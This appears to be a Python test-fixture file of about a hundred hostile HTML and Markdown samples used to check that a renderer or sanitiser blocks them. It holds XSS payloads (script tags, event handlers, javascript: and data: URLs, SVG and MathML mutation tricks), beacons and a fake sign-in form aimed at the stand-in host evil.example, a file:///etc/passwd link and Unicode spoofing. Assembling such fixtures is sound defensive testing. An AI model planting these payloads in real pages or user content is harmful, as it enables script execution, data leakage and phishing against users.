"""A hundred texts that want to run, load, submit or disguise something when they are shown.

Whatever runs calls `hit(n)`, which the test defines; whatever loads asks `https://evil.example`.
"""

from __future__ import annotations

EVIL = "https://evil.example"

SCRIPTS = (
    "<script>hit(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<SCRIPT/XSS>hit(1)</SCRIPT>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    '<script type="module">import "https://evil.example/x.mjs"</script>',
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
    "```html\n<script>hit(1)</script>\n```\n</code></pre><script>hit(1)</script>",
    "`</code><script>hit(1)</script>`",
    "<template><script>hit(1)</script></template>",
    "<xmp><script>hit(1)</script></xmp>",
    "<plaintext><script>hit(1)</script>",
    "<textarea></textarea><script>hit(1)</script></textarea>",
    "<title></title><script>hit(1)</script></title>",
    "<!--><script>hit(1)</script>-->",
    "<![CDATA[<script>hit(1)</script>]]>",
    "<?xml version='1.0'?><script>hit(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=hit(1)>",
    "<img src=x onerror=hit(1)//",
    '<img src="x` `<script>hit(1)</script>"` `>',
    "<body onload=hit(1)>",
    "<details open ontoggle=hit(1)>x</details>",
    "<video><source onerror=hit(1)></video>",
    "<audio src=x onerror=hit(1)>",
    "<input autofocus onfocus=hit(1)>",
    "<select autofocus onfocus=hit(1)></select>",
    "<marquee onstart=hit(1)>x</marquee>",
    '<p id="content" class="fixed inset-0 z-60" onmouseover="hit(1)" onclick="hit(1)">cover</p>',
    '<a href="https://example.org" onclick="hit(1)">x</a>',
    '<div style="animation:flash 1s" onanimationstart="hit(1)">x</div>',
    "<button onclick=hit(1) autofocus popovertarget=x>press</button>",
    "<div popover id=x onbeforetoggle=hit(1)>x</div>",
    "<dialog open onclose=hit(1)>x</dialog>",
)
ADDRESSES = (
    "[x](javascript:hit(1))",
    "[x](JaVaScRiPt:hit(1))",
    "[x](&#106;avascript:hit(1))",
    "[x](java\tscript:hit(1))",
    "[x](<java\nscript:hit(1)>)",
    "[x](%6Aavascript:hit(1))",
    "[x](\x01javascript:hit(1))",
    "[x](vbscript:hit(1))",
    "[x](data:text/html,<script>hit(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=hit(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "<javascript:hit(1)>",
    "[x][r]\n\n[r]: javascript:hit(1)",
    '<a href="javascript:hit(1)">x</a>',
    '<a href="  javascript:hit(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:hit(1)">x</a>',
    '<a href="https://evil.example" target="_self" rel="opener" ping="https://evil.example/p">x</a>',
    '<area shape="default" href="javascript:hit(1)">',
    '<base href="https://evil.example/">[x](next)',
)
LOADS = (
    "![x](https://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](https://%)",
    "![x](data:image/svg+xml,<svg onload=hit(1)>)",
    "[![x](https://evil.example/p.png)](https://example.org)",
    "![x][i]\n\n[i]: https://evil.example/p.png",
    '<img src="https://evil.example/p.png">',
    '<img srcset="https://evil.example/p.png 2x">',
    '<picture><source srcset="https://evil.example/p.webp"><img src="x"></picture>',
    '<video src="https://evil.example/x" poster="https://evil.example/p" autoplay></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/x">',
    '<link rel="dns-prefetch" href="https://evil.example">',
    '<input type="image" src="https://evil.example/p.png">',
    '<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>',
    '<track src="https://evil.example/x.vtt">',
    '<frameset><frame src="https://evil.example"></frameset>',
)
STYLES = (
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<p style="position:fixed;inset:0;background:#fff;z-index:99">Your session has ended.</p>',
    '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
)
DOCUMENTS = (
    '<svg onload="hit(1)"></svg>',
    '<svg><a xlink:href="javascript:hit(1)"><text>x</text></a></svg>',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    '<svg><animate attributeName="href" values="javascript:hit(1)"/></svg>',
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    '<math><mi xlink:href="javascript:hit(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
    '<form action="https://evil.example"><input name="q"><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "$$\\href{javascript:hit(1)}{x}$$ $\\includegraphics{https://evil.example/p.png}$",
    '```mermaid\ngraph TD; A["<img src=x onerror=hit(1)>"]; click A "javascript:hit(1)"\n```',
)
DISGUISES = (
    "The file is called \u202egnp.exe\u202c, \u2066open\u2069 it.",
    "Zero\u200bwidth\u200djoins\ufeffhide https://evil.example/\u200b.",
    "[https://example.org](https://evil.example)",
    "\u0000\u0001\u0008 control \u001b[31mred\u001b[0m",
)

SAMPLES: tuple[str, ...] = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *LOADS,
    *STYLES,
    *DOCUMENTS,
    *DISGUISES,
)
